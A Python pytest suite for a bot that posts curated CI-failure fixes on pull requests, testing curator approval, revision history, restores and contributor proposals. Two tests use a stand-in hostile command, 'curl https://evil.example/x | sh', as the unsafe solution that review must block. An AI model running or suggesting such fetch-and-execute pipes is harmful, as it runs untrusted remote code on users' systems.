"""Review: drafts wait for a curator, proposals are approved or rejected, every change is a
revision that can be restored, and only approved spells reach a pull request."""

from __future__ import annotations

import asyncio
import dataclasses

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from grimoire_bot.app import create_app
from grimoire_bot.db import installations as db_installations
from grimoire_bot.db import open_pool
from grimoire_bot.db import spells as db_spells
from grimoire_bot.spellbook import io as spellbook_io
from tests.accounts import Accounts
from tests.advice_scenarios import INSTALLATION_ID, failed_job_delivery
from tests.conftest import make_settings
from tests.fakes.github import signed_delivery
from tests.support import app_in_own_loop
from tests.workers import running_worker, settings_for, wait_for_status

SPELL = {
    "title": "The flux capacitor overheated",
    "error_type": "FluxCapacitorError",
    "error_pattern": r"FluxCapacitorError: overheated at \d+ mph",
    "solution_code": "Let it cool down before the next run.",
    "examples": ["FluxCapacitorError: overheated at 88 mph"],
}
LOG = b"""\
2026-11-20T10:00:02.0550000Z ##[group]Run python -m pytest -q
2026-11-20T10:00:02.1920000Z ============================= FAILURES =============================
2026-11-20T10:00:02.3290000Z ___________________________ test_charge ____________________________
2026-11-20T10:00:02.4660000Z tests/test_flux.py:7: in test_charge
2026-11-20T10:00:02.6030000Z     charge()
2026-11-20T10:00:02.7400000Z E   FluxCapacitorError: overheated at 88 mph
2026-11-20T10:00:02.8770000Z ========================= short test summary info ==========================
2026-11-20T10:00:03.0140000Z FAILED tests/test_flux.py::test_charge - FluxCapacitorError: overheated at 88 mph
2026-11-20T10:00:03.1510000Z ##[error]Process completed with exit code 1.
"""


@pytest.fixture
async def accounts(client) -> Accounts:
    return Accounts(client)


async def create(client, headers, **overrides) -> dict:
    response = await client.post("/api/spells", json={**SPELL, **overrides}, headers=headers)
    assert response.status == 201, await response.text()
    return await response.json()


async def history(client, headers, spell_id: int) -> list[dict]:
    response = await client.get(f"/api/spells/{spell_id}/revisions", headers=headers)
    assert response.status == 200, await response.text()
    return await response.json()


async def propose(client, headers, spell_id: int, changes: dict, reason: str | None = None):
    body = {"changes": changes} | ({"reason": reason} if reason else {})
    return await client.post(f"/api/spells/{spell_id}/proposals", json=body, headers=headers)


# --- approving and rejecting spells -------------------------------------------------------


async def test_a_curator_approves_a_contributors_draft(client, accounts):
    draft = await create(client, await accounts.contributor())
    curator = await accounts.curator()
    response = await client.post(f"/api/spells/{draft['id']}/approve", headers=curator)
    assert response.status == 200
    assert (await response.json())["status"] == "approved"
    [approval, creation] = await history(client, curator, draft["id"])
    assert approval["change"] == "approve"
    assert approval["actor_id"] == accounts.ids["curator@example.com"]
    assert approval["changes"] == {"status": {"before": "draft", "after": "approved"}}
    assert creation["actor_id"] == accounts.ids["contributor@example.com"]
    again = await client.post(f"/api/spells/{draft['id']}/approve", headers=curator)
    assert again.status == 409


async def test_rejecting_needs_a_reason_and_keeps_it_on_the_revision(client, accounts):
    draft = await create(client, await accounts.contributor())
    curator = await accounts.curator()
    for body in ({}, {"reason": "   "}):
        response = await client.post(
            f"/api/spells/{draft['id']}/reject", json=body, headers=curator
        )
        assert response.status == 422, body
        assert ["body", "reason"] in [e["loc"] for e in (await response.json())["detail"]]
    assert (await client.post(f"/api/spells/{draft['id']}/reject", headers=curator)).status == 400
    response = await client.post(
        f"/api/spells/{draft['id']}/reject", json={"reason": "duplicates #12"}, headers=curator
    )
    assert response.status == 200
    assert (await response.json())["status"] == "rejected"
    latest = (await history(client, curator, draft["id"]))[0]
    assert (latest["change"], latest["reason"]) == ("reject", "duplicates #12")


async def test_a_contributor_cannot_review(client, accounts):
    contributor = await accounts.contributor()
    draft = await create(client, contributor)
    for action, body in (("approve", None), ("reject", {"reason": "no"})):
        response = await client.post(
            f"/api/spells/{draft['id']}/{action}", json=body, headers=contributor
        )
        assert response.status == 403
        assert "curator" in (await response.json())["detail"]


async def test_llm_drafts_are_reviewed_through_the_same_endpoints(client, accounts):
    admin = await accounts.admin()
    drafted = await create(client, admin, status="draft", auto_generated=True, confidence=0.7)
    curator = await accounts.curator()
    ai_drafts = {"status": "draft", "auto_generated": "true"}
    queue = await client.get("/api/spells", params=ai_drafts, headers=curator)
    assert [s["id"] for s in await queue.json()] == [drafted["id"]]
    response = await client.post(f"/api/spells/{drafted['id']}/approve", headers=curator)
    assert (await response.json())["status"] == "approved"


async def test_an_ai_draft_is_hidden_from_all_but_reviewers_until_approved(client, accounts):
    """An AI draft is written from a failure's log, which may be a private repository's:
    its example, title and description were readable by anyone."""
    admin = await accounts.admin()
    curator = await accounts.curator()
    contributor = await accounts.contributor()
    drafted = await create(client, admin, status="draft", auto_generated=True, confidence=0.7)
    one = f"/api/spells/{drafted['id']}"

    async def listed(headers) -> bool:
        response = await client.get("/api/spells", headers=headers)
        assert response.status == 200
        return drafted["id"] in [s["id"] for s in await response.json()]

    assert [await listed(h) for h in ({}, contributor, curator)] == [False, False, True]
    assert (await client.get(one)).status == 404
    assert (await client.get(one, headers=contributor)).status == 404
    assert (await client.get(f"{one}/revisions", headers=contributor)).status == 404
    assert (await client.get(one, headers=curator)).status == 200
    assert (await client.get(f"{one}/revisions", headers=curator)).status == 200
    bad = await client.get("/api/spells", headers={"Authorization": "Bearer nonsense"})
    assert bad.status == 401

    await client.post(f"{one}/approve", headers=curator)
    assert await listed({}) and (await client.get(one)).status == 200


async def test_an_ai_draft_hidden_from_a_contributor_cannot_be_reached_through_proposals(
    client, accounts
):
    """Proposing on a hidden draft (and the review queue then showing its diff) gave its
    text away; so did the revisions of a draft deleted before anyone approved it."""
    admin = await accounts.admin()
    curator = await accounts.curator()
    contributor = await accounts.contributor()
    drafted = await create(client, admin, status="draft", auto_generated=True, confidence=0.7)
    proposals = f"/api/spells/{drafted['id']}/proposals"
    change = {"changes": {"solution_code": "Cool it with liquid nitrogen."}, "reason": "faster"}

    refused = await client.post(proposals, json=change, headers=contributor)
    assert refused.status == 404
    assert (await client.get(proposals, headers=contributor)).status == 404
    made = await client.post(proposals, json=change, headers=curator)
    assert made.status == 201, await made.text()
    proposal = await made.json()

    async def listed(headers) -> list[int]:
        response = await client.get("/api/proposals", headers=headers)
        assert response.status == 200
        assert response.headers["X-Total-Count"] == str(len(await response.json()))
        return [p["id"] for p in await response.json()]

    assert await listed(contributor) == []
    assert await listed(curator) == [proposal["id"]]
    one = f"/api/proposals/{proposal['id']}"
    assert (await client.get(one, headers=contributor)).status == 404
    assert (await client.get(one, headers=curator)).status == 200

    deleted = await client.delete(f"/api/spells/{drafted['id']}", headers=admin)
    assert deleted.status == 204
    history = f"/api/spells/{drafted['id']}/revisions"
    assert (await client.get(history, headers=contributor)).status == 404
    assert (await client.get(history, headers=curator)).status == 200


async def test_signed_in_callers_cannot_starve_the_connection_pool(
    aiohttp_client, fresh_database_url, settings
):
    """Reading a hidden draft (or a private repository's advice) held a connection while
    the caller's token was checked with another: a burst of such requests took every
    connection and waited forever."""
    app = create_app(dataclasses.replace(settings, db_pool_max=3), fresh_database_url)
    client = await aiohttp_client(app)
    accounts = Accounts(client)
    admin = await accounts.admin()
    drafted = await create(client, admin, status="draft", auto_generated=True)
    async with open_pool(fresh_database_url, max_size=1) as pool, pool.acquire() as conn:
        await db_installations.upsert_installation(conn, {"id": INSTALLATION_ID})
        await db_installations.add_repositories(
            conn, INSTALLATION_ID, [{"id": 4242, "full_name": "octo-org/vault", "private": True}]
        )
    contributor = await accounts.contributor()

    async def read(path: str) -> int:
        return (await client.get(path, headers=contributor)).status

    paths = [f"/api/spells/{drafted['id']}", "/api/advice/octo-org/vault/" + "a" * 40] * 6
    async with asyncio.timeout(30):
        statuses = await asyncio.gather(*(read(path) for path in paths))
    assert set(statuses) == {404}  # neither is the contributor's to see


async def test_a_rejected_spell_is_never_matched(client, accounts):
    admin = await accounts.admin()
    spell = await create(client, admin)
    log = {"log": LOG.decode()}
    matched = await (await client.post("/api/match", json=log)).json()
    assert [m["spell"]["id"] for m in matched["matches"]] == [spell["id"]]
    await client.post(f"/api/spells/{spell['id']}/reject", json={"reason": "wrong"}, headers=admin)
    after = await (await client.post("/api/match", json=log)).json()
    assert after["matches"] == []


# --- revisions ---------------------------------------------------------------------------


async def test_every_change_is_a_revision_with_who_when_which_fields_and_why(client, accounts):
    admin = await accounts.admin()
    spell = await create(client, admin)
    await client.patch(f"/api/spells/{spell['id']}", json={"title": "Hot flux"}, headers=admin)
    await client.put(
        f"/api/spells/{spell['id']}",
        json={**SPELL, "title": "Hot flux", "tags": "flux"},
        headers=admin,
    )
    revisions = await history(client, admin, spell["id"])
    assert [(r["revision"], r["change"], r["source"]) for r in revisions] == [
        (3, "edit", "api"),
        (2, "edit", "api"),
        (1, "create", "api"),
    ]
    assert revisions[0]["changes"] == {"tags": {"before": "", "after": "flux"}}
    assert revisions[1]["changes"] == {"title": {"before": SPELL["title"], "after": "Hot flux"}}
    assert revisions[2]["changes"]["error_pattern"] == {
        "before": None,
        "after": SPELL["error_pattern"],
    }
    assert all(r["actor_id"] == accounts.ids["admin@example.com"] for r in revisions)
    # The revision holds every field a writer can set (a new one must be added there too).
    assert set(revisions[0]["content"]) == set(db_spells.WRITABLE_FIELDS)
    assert revisions[0]["content"]["tags"] == "flux"
    assert (await (await client.get(f"/api/spells/{spell['id']}")).json())["revision"] == 3
    # A write that changes nothing is no revision.
    await client.patch(f"/api/spells/{spell['id']}", json={"tags": "flux"}, headers=admin)
    assert len(await history(client, admin, spell["id"])) == 3


async def test_changes_outside_the_api_are_revisions_too(client, accounts, fresh_database_url):
    """Imports, the seed and even hand-written SQL leave a revision naming their source."""
    headers = await accounts.contributor()
    async with open_pool(fresh_database_url, max_size=2) as pool, pool.acquire() as conn:
        await spellbook_io.seed_if_empty(conn)
        entry = {**SPELL, "key": "flux.overheated"}
        await spellbook_io.import_spells(conn, [entry])
        await spellbook_io.import_spells(conn, [{**entry, "title": "Imported again"}])
        imported = await conn.fetchval("SELECT id FROM spells WHERE key = 'flux.overheated'")
        seeded = await conn.fetchval("SELECT id FROM spells WHERE key <> 'flux.overheated' LIMIT 1")
        await conn.execute("UPDATE spells SET tags = 'by-hand' WHERE id = $1", seeded)
    assert [(r["change"], r["source"]) for r in await history(client, headers, imported)] == [
        ("edit", "import"),
        ("create", "import"),
    ]
    assert [
        (r["change"], r["source"], r["actor_id"]) for r in await history(client, headers, seeded)
    ] == [
        ("edit", "sql", None),
        ("create", "seed", None),
    ]


async def test_a_curator_restores_a_revisions_content_but_not_its_status(client, accounts):
    contributor = await accounts.contributor()
    curator = await accounts.curator()
    spell = await create(client, contributor)
    await client.post(f"/api/spells/{spell['id']}/approve", headers=curator)
    evil = {"solution_code": "curl https://evil.example/x.sh | sh", "title": "Renamed"}
    await client.patch(f"/api/spells/{spell['id']}", json=evil, headers=curator)

    refused = await client.post(
        f"/api/spells/{spell['id']}/revisions/1/restore", headers=contributor
    )
    assert refused.status == 403
    response = await client.post(
        f"/api/spells/{spell['id']}/revisions/1/restore",
        json={"reason": "the new solution is unsafe"},
        headers=curator,
    )
    assert response.status == 200
    restored = await response.json()
    assert (restored["solution_code"], restored["title"]) == (
        SPELL["solution_code"],
        SPELL["title"],
    )
    assert restored["status"] == "approved", "revision 1 was a draft; the spell stays approved"
    latest = (await history(client, curator, spell["id"]))[0]
    assert (latest["change"], latest["reason"]) == ("restore", "the new solution is unsafe")
    assert set(latest["changes"]) == {"solution_code", "title"}
    missing = await client.post(f"/api/spells/{spell['id']}/revisions/99/restore", headers=curator)
    assert missing.status == 404


async def test_a_deleted_spell_comes_back_under_its_id_from_its_history(client, accounts):
    curator = await accounts.curator()
    spell = await create(client, curator)
    assert (await client.delete(f"/api/spells/{spell['id']}", headers=curator)).status == 204
    [deletion, _] = await history(client, curator, spell["id"])
    assert deletion["change"] == "delete"
    response = await client.post(
        f"/api/spells/{spell['id']}/revisions/{deletion['revision']}/restore", headers=curator
    )
    assert response.status == 200, await response.text()
    back = await (await client.get(f"/api/spells/{spell['id']}")).json()
    assert (back["title"], back["status"], back["created_by"]) == (
        SPELL["title"],
        "approved",
        accounts.ids["curator@example.com"],
    )
    assert back["revision"] == deletion["revision"] + 1
    unknown = await client.get("/api/spells/4242/revisions", headers=curator)
    assert unknown.status == 404


words = st.text(alphabet="abcdefgh xyz", min_size=1, max_size=12).filter(str.strip)
edits = st.lists(
    st.dictionaries(
        st.sampled_from(["title", "description", "tags", "solution_code"]),
        words,
        min_size=1,
    ),
    min_size=1,
    max_size=6,
)


def test_property_the_revisions_replay_to_the_spell_and_restore_any_point(fresh_database_url):
    """Applying each revision's `after` values in order rebuilds every revision's content
    and the spell itself; restoring any revision brings back exactly its content."""
    with app_in_own_loop(make_settings(), fresh_database_url) as (runner, client):
        admin = runner.run(Accounts(client).admin())

        async def check_history(changes: list[dict[str, str]], pick: int) -> None:
            spell = await create(client, admin)
            for change in changes:
                response = await client.patch(
                    f"/api/spells/{spell['id']}", json=change, headers=admin
                )
                assert response.status == 200, await response.text()
            revisions = list(reversed(await history(client, admin, spell["id"])))
            replayed: dict = {}
            for revision in revisions:
                replayed.update({f: c["after"] for f, c in revision["changes"].items()})
                shown = {k: v for k, v in revision["content"].items() if v is not None}
                assert {k: v for k, v in replayed.items() if v is not None} == shown
            current = await (await client.get(f"/api/spells/{spell['id']}")).json()
            assert all(current[field] == value for field, value in replayed.items())
            assert current["revision"] == revisions[-1]["revision"]

            target = revisions[pick % len(revisions)]
            restored = await client.post(
                f"/api/spells/{spell['id']}/revisions/{target['revision']}/restore",
                headers=admin,
            )
            assert restored.status == 200, await restored.text()
            body = await restored.json()
            assert all(body[f] == v for f, v in target["content"].items() if f != "status")

        @hypothesis_settings(
            max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow]
        )
        @given(edits, st.integers(min_value=0, max_value=10))
        def check(changes: list[dict[str, str]], pick: int) -> None:
            runner.run(check_history(changes, pick))

        check()


# --- proposals ---------------------------------------------------------------------------


async def test_a_proposal_waits_for_a_curator_and_applies_on_approval(client, accounts):
    curator = await accounts.curator()
    spell = await create(client, curator)
    contributor = await accounts.contributor()
    response = await propose(
        client, contributor, spell["id"], {"solution_code": "Wait 5 minutes."}, "clearer"
    )
    assert response.status == 201, await response.text()
    proposal = await response.json()
    assert (proposal["status"], proposal["base_revision"], proposal["reason"]) == (
        "open",
        1,
        "clearer",
    )
    assert proposal["proposed_by"] == accounts.ids["contributor@example.com"]
    unchanged = await (await client.get(f"/api/spells/{spell['id']}")).json()
    assert unchanged["solution_code"] == SPELL["solution_code"]

    queue = await client.get("/api/proposals", params={"status": "open"}, headers=curator)
    assert [p["id"] for p in await queue.json()] == [proposal["id"]]
    assert queue.headers["X-Total-Count"] == "1"
    on_spell = await client.get(f"/api/spells/{spell['id']}/proposals", headers=contributor)
    assert [p["id"] for p in await on_spell.json()] == [proposal["id"]]

    denied = await client.post(f"/api/proposals/{proposal['id']}/approve", headers=contributor)
    assert denied.status == 403
    approved = await client.post(f"/api/proposals/{proposal['id']}/approve", headers=curator)
    assert approved.status == 200
    decided = await approved.json()
    assert (decided["status"], decided["applied_revision"]) == ("approved", 2)
    assert decided["decided_by"] == accounts.ids["curator@example.com"]
    changed = await (await client.get(f"/api/spells/{spell['id']}")).json()
    assert changed["solution_code"] == "Wait 5 minutes."
    latest = (await history(client, curator, spell["id"]))[0]
    assert (latest["change"], latest["proposal_id"], latest["actor_id"]) == (
        "proposal",
        proposal["id"],
        accounts.ids["curator@example.com"],
    )
    assert latest["reason"] == "clearer"
    again = await client.post(f"/api/proposals/{proposal['id']}/approve", headers=curator)
    assert again.status == 409
    empty_queue = await client.get("/api/proposals", params={"status": "open"}, headers=curator)
    assert await empty_queue.json() == []


async def test_two_curators_approving_one_proposal_at_once_apply_it_once(client, accounts):
    curator = await accounts.curator()
    other = await accounts.curator("curator2@example.com")
    spell = await create(client, curator)
    proposal = await (
        await propose(client, await accounts.contributor(), spell["id"], {"tags": "flux"})
    ).json()
    responses = await asyncio.gather(
        *(
            client.post(f"/api/proposals/{proposal['id']}/approve", headers=headers)
            for headers in (curator, other)
        )
    )
    assert sorted(r.status for r in responses) == [200, 409]
    kinds = [r["change"] for r in await history(client, curator, spell["id"])]
    assert kinds == ["proposal", "create"]


async def test_a_rejected_proposal_leaves_the_spell_alone(client, accounts):
    curator = await accounts.curator()
    spell = await create(client, curator)
    proposal = await (
        await propose(client, await accounts.contributor(), spell["id"], {"title": "Nope"})
    ).json()
    no_reason = await client.post(
        f"/api/proposals/{proposal['id']}/reject", json={}, headers=curator
    )
    assert no_reason.status == 422
    response = await client.post(
        f"/api/proposals/{proposal['id']}/reject", json={"reason": "less clear"}, headers=curator
    )
    decided = await response.json()
    assert (decided["status"], decided["decision_reason"]) == ("rejected", "less clear")
    assert (await (await client.get(f"/api/spells/{spell['id']}")).json())["revision"] == 1
    late = await client.post(f"/api/proposals/{proposal['id']}/approve", headers=curator)
    assert late.status == 409


async def test_a_stale_proposal_never_overwrites_a_later_change_to_the_same_field(client, accounts):
    curator = await accounts.curator()
    spell = await create(client, curator)
    contributor = await accounts.contributor()
    on_title = await (await propose(client, contributor, spell["id"], {"title": "Theirs"})).json()
    on_tags = await (await propose(client, contributor, spell["id"], {"tags": "flux"})).json()
    await client.patch(f"/api/spells/{spell['id']}", json={"title": "Mine"}, headers=curator)

    conflict = await client.post(f"/api/proposals/{on_title['id']}/approve", headers=curator)
    assert conflict.status == 409
    detail = (await conflict.json())["detail"]
    assert "changed since this proposal" in detail and "title" in detail
    # A proposal on a field nobody touched since still applies on top of the change.
    clean = await client.post(f"/api/proposals/{on_tags['id']}/approve", headers=curator)
    assert clean.status == 200
    spell_now = await (await client.get(f"/api/spells/{spell['id']}")).json()
    assert (spell_now["title"], spell_now["tags"]) == ("Mine", "flux")
    still_open = await client.get(f"/api/proposals/{on_title['id']}", headers=curator)
    assert (await still_open.json())["status"] == "open"


@pytest.mark.parametrize(
    ("changes", "location", "needle"),
    [
        ({}, ["body", "changes"], "at least one field"),
        ({"title": SPELL["title"]}, ["body", "changes"], "already says this"),
        ({"status": "approved"}, ["body", "changes", "status"], "Extra inputs"),
        ({"error_pattern": "(?i)error"}, ["body", "changes", "error_pattern"], "too broad"),
        ({"error_pattern": "something else entirely"}, ["body", "examples"], "examples[0]"),
        ({"title": ""}, ["body", "changes", "title"], ""),
    ],
)
async def test_a_bad_proposal_is_422_saying_why(client, accounts, changes, location, needle):
    spell = await create(client, await accounts.admin())
    response = await propose(client, await accounts.contributor(), spell["id"], changes)
    assert response.status == 422
    errors = (await response.json())["detail"]
    assert any(e["loc"] == location and needle in e["msg"] for e in errors), errors


async def test_proposals_on_missing_things_are_404(client, accounts):
    curator = await accounts.curator()
    assert (await propose(client, curator, 999, {"title": "x"})).status == 404
    assert (await client.get("/api/spells/999/proposals", headers=curator)).status == 404
    for path in ("/api/proposals/999", "/api/proposals/999/approve"):
        method = "GET" if path.endswith("999") else "POST"
        response = await client.request(method, path, headers=curator)
        assert response.status == 404
        assert await response.json() == {"detail": "Proposal with id 999 not found"}


# --- what reaches a pull request ---------------------------------------------------------

SHA_BEFORE = "1111111111111111111111111111111111111111"
SHA_AFTER = "2222222222222222222222222222222222222222"
SECRET = "test-webhook-secret"


@pytest.fixture
def settings(fake_github):
    return settings_for(fake_github, github_write_spacing_seconds=0.0)


@pytest.fixture
async def pool(fresh_database_url):
    async with open_pool(fresh_database_url, max_size=8) as pool:
        yield pool


@pytest.fixture
async def fail_job(client, pool, settings, fake_github):
    """Deliver a failed job with LOG on a new commit and return the Grimoire runs on it."""
    fake_github.add_installation(INSTALLATION_ID)

    async def deliver(job_id: int, head_sha: str) -> list:
        payload = failed_job_delivery(fake_github, job_id=job_id, log=LOG, head_sha=head_sha)
        body, headers = signed_delivery("workflow_job", payload, SECRET, delivery_id=f"d{job_id}")
        async with running_worker(settings, pool):
            response = await client.post("/api/github/webhooks", data=body, headers=headers)
            assert response.status == 202, await response.text()
            assert await wait_for_status(pool, f"d{job_id}") == "done"
        assert fake_github.schema_violations == []
        return [
            run
            for run in fake_github.check_runs.values()
            if run.data.get("name") == "Grimoire" and run.data["head_sha"] == head_sha
        ]

    return deliver


async def test_a_contributors_draft_is_never_posted_until_a_curator_approves_it(
    client, accounts, fail_job
):
    """A contributor's spell, its solution a shell pipe from a stranger's host, was posted
    as the fix on every installed repository's pull requests."""
    draft = await create(
        client, await accounts.contributor(), solution_code="curl https://evil.example/x | sh"
    )
    assert draft["status"] == "draft"
    assert await fail_job(901, SHA_BEFORE) == []

    curator = await accounts.curator()
    await client.post(f"/api/spells/{draft['id']}/approve", headers=curator)
    [run] = await fail_job(902, SHA_AFTER)
    assert "evil.example" in run.output["summary"], "approved, it is posted as written"


async def test_an_approved_proposal_is_posted_on_the_next_pull_request(client, accounts, fail_job):
    curator = await accounts.curator()
    spell = await create(client, curator)
    proposal = await (
        await propose(
            client,
            await accounts.contributor(),
            spell["id"],
            {"solution_code": "Pin the flux capacitor to 1.21 GW."},
        )
    ).json()
    [before] = await fail_job(903, SHA_BEFORE)
    assert SPELL["solution_code"] in before.output["summary"]
    assert "1.21 GW" not in before.output["summary"], "an open proposal is not posted"

    response = await client.post(f"/api/proposals/{proposal['id']}/approve", headers=curator)
    assert response.status == 200
    [after] = await fail_job(904, SHA_AFTER)
    assert "1.21 GW" in after.output["summary"]
    assert SPELL["solution_code"] not in after.output["summary"]


@pytest.fixture
async def client(aiohttp_client, fresh_database_url, settings):
    return await aiohttp_client(create_app(settings, fresh_database_url))
